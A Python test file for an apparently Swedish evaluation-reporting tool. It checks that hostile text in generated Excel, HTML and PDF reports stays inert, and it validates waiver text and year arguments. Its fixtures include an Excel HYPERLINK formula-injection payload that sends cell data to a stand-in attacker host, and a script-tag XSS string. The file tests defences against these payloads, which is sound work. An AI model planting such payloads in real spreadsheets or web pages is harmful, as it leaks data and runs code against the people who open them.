"""Staff files are inert (issue 15, item 7): hostile text from deliveries or waivers stays text.

An insats name comes from a förbund's register and a waiver reason from `utfall waive`; both
end up in tabeller.xlsx, utvardering.html and utvardering.pdf. Excel must show them as text,
never run them as a formula; HTML must escape them. Waivers need visible text, and a year
that no evaluation can be of is a usage error before anything is opened.
"""

from __future__ import annotations

import io
import re
import subprocess
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from tests.conftest import VENV_BIN, cli_env
from tests.support.report_checks import pdf_text
from utfall.evaluation.report_model import Report, ReportTable, Section
from utfall.evaluation.render_excel import ABOUT_SHEET, HEADER_ROW, INDEX_SHEET, render_excel, table_sheets
from utfall.evaluation.render_html import render_html
from utfall.evaluation.render_pdf import render_pdf
from utfall.orchestration.tasks import evaluation_year
from utfall.evaluation.suppression import TableSpec, suppress

FORMULA = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka här")'
SUM = "=1+1"
PLUS = "+46-8-123"  # a phone number Excel would take for a formula when edited
AT = "@SUM(A1:A2)"
ERROR = "#N/A"
SCRIPT = "<script>alert('x')</script>"
BELL = "IPS\x07 Norr"  # a control character: Excel files cannot hold it


def hostile_report(second_insats: str = "IPS Norr") -> Report:
    insatser = pd.DataFrame({"Deltagare": [12, 30, 42], "Kommentar": [SUM, ERROR, "Totalt"]},
                            index=pd.Index([FORMULA, second_insats, "Totalt"], name="Insats"))
    spec = TableSpec(counts=["Deltagare"], total_rows={"Totalt": None}, additive=["Deltagare"], name="insatser")
    waivers = pd.DataFrame({"Motivering": [AT, SCRIPT], "Beslutat av": [PLUS, "Anna"]})
    return Report(
        forbund_id="F01", forbund_name=SUM, year=2025, gate_run_id="gate-run-1",
        sections=[
            Section("insatser", "Insatser", [f"Insatsen {FORMULA} startade."],
                    [ReportTable("insatser", "Deltagare per insats", suppress(insatser, spec, threshold=5),
                                 note=SUM)]),
            Section("metod", "Metod och datakvalitet", [AT, SCRIPT],
                    [ReportTable("undantag", "Undantag", suppress(waivers, TableSpec(counts=[], name="u"), threshold=5))]),
        ],
        generated_at="2026-01-15T08:00:00Z", software_version="0.1.0", suppression_threshold=5,
    )


@pytest.fixture(scope="module")
def workbook():
    return load_workbook(io.BytesIO(render_excel(hostile_report())))


def test_no_cell_of_the_workbook_is_a_formula(workbook):
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []


def test_hostile_text_is_kept_as_a_string_cell(workbook):
    sheet = workbook[table_sheets(workbook)["insatser"]]
    label, comment = sheet.cell(HEADER_ROW + 1, 1), sheet.cell(HEADER_ROW + 1, 3)
    assert (label.value, label.data_type) == (FORMULA, "s")
    assert (comment.value, comment.data_type) == (SUM, "s")
    assert sheet.cell(HEADER_ROW + 1, 2).value == 12  # figures stay numbers
    error = sheet.cell(HEADER_ROW + 2, 3)
    assert (error.value, error.data_type) == (ERROR, "s")  # text, not Excel's error value
    assert (sheet.cell(2, 1).value, sheet.cell(2, 1).data_type) == (SUM, "s")  # the note
    waivers = workbook[table_sheets(workbook)["undantag"]]
    assert [(c.value, c.data_type) for c in waivers[HEADER_ROW + 1]] == [(AT, "s"), (PLUS, "s")]
    # Excel keeps a cell starting with = + - @ as text even after a reader edits it
    assert label.quotePrefix and waivers.cell(HEADER_ROW + 1, 1).quotePrefix and waivers.cell(HEADER_ROW + 1, 2).quotePrefix
    about = {c.value: c.data_type for row in workbook[ABOUT_SHEET].iter_rows() for c in row if c.value}
    assert about[SUM] == "s" and about[AT] == "s"  # förbund name and a method paragraph
    index = [c for row in workbook[INDEX_SHEET].iter_rows() for c in row if c.value]
    assert {c.data_type for c in index if c.value.startswith(("=", "+", "Utvärdering 2025 – ="))} == {"s"}


def test_a_control_character_is_dropped_not_a_crash():
    workbook = load_workbook(io.BytesIO(render_excel(hostile_report(second_insats=BELL))))
    assert workbook[table_sheets(workbook)["insatser"]].cell(HEADER_ROW + 2, 1).value == "IPS Norr"


def test_html_and_pdf_show_hostile_text_as_text(tmp_path):
    report = hostile_report()
    html = render_html(report)
    assert "<script>" not in html and "&lt;script&gt;alert(" in html
    assert not re.search(r"<script|href=\W*http://angripare", html, re.IGNORECASE)  # no script, no link out
    assert "&#34;Klicka här&#34;" in html or "&quot;Klicka här&quot;" in html
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(render_pdf(html))
    text = re.sub(r"\s+", " ", pdf_text(pdf, layout=False))
    assert "<script>alert('x')</script>" in text or "<script>alert(’x’)</script>" in text


# --- waivers and years ---------------------------------------------------------------------------

def utfall(home, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([str(VENV_BIN / "utfall"), *args], env=cli_env(home), capture_output=True, text=True)


CHECK = "completeness_months_fk_utbetalningar"


@pytest.mark.parametrize("option, blank", [
    ("--reason", ""), ("--reason", " \t\n"), ("--reason", "\u200b\u200d\ufeff"), ("--reason", "\u00a0\u3000"),
    ("--by", "\x01\x1b"), ("--by", "\u2028\u200b"),
])
def test_a_waiver_needs_visible_text(home, option, blank):
    values = {"--reason": "FK levererar juni senare", "--by": "Anna Andersson", option: blank}
    done = utfall(home, "waive", CHECK, "--year", "2024", "--reason", values["--reason"], "--by", values["--by"])
    assert done.returncode == 2, done.stdout + done.stderr
    assert "synlig text" in done.stderr and option in done.stderr
    assert not home.warehouse.exists()  # refused before anything was opened or written


YEARS = ["1999", "0", "-2024", "20244", str(date.today().year + 2)]


@pytest.mark.parametrize("command", [["gate"], ["evaluate"], ["waive", CHECK, "--reason", "skäl", "--by", "Anna"]])
@pytest.mark.parametrize("year", YEARS)
def test_an_implausible_year_is_a_usage_error(home, command, year):
    done = utfall(home, *command, "--year", year)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "not plausible" in done.stderr and f"2000 and {date.today().year + 1}" in " ".join(done.stderr.split())
    assert not home.warehouse.exists() and not (home.home / "outbox").exists()


def test_the_bounds_are_accepted(home):
    for year in ("2000", str(date.today().year + 1)):
        done = utfall(home, "gate", "--year", year)
        assert "not plausible" not in done.stderr, done.stderr


@pytest.mark.parametrize("param", [1999, "20244", date.today().year + 2])
def test_the_annual_evaluation_dag_refuses_an_implausible_year_param(param):
    with pytest.raises(ValueError, match="not plausible"):
        evaluation_year(param, 2026)
    assert evaluation_year(None, 2026) == 2025  # the default: the previous year
